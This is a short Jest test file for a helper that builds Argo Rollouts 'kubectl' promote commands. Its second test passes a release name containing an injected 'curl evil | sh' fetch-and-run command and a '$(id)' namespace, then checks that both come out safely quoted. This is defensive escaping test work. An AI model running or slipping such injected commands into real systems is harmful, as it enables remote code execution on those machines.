import { commandOf } from '../../src/forecast/commands';
import { Release } from '../../src/model/release/release';

const command = (name: string, namespace?: string) => commandOf({ name, namespace } as Release, 'promote');

test('a command names the Rollout and its namespace', () => {
  expect(command('app', 'shop')).toBe('kubectl argo rollouts promote app -n shop');
  expect(command('app')).toBe('kubectl argo rollouts promote app');
});

test('a name that a shell would read as more than a word is quoted', () => {
  expect(command('app; curl evil | sh #', '$(id)')).toBe('kubectl argo rollouts promote \'app; curl evil | sh #\' -n \'$(id)\'');
  expect(command('it\'s')).toBe('kubectl argo rollouts promote \'it\'\\\'\'s\'');
});
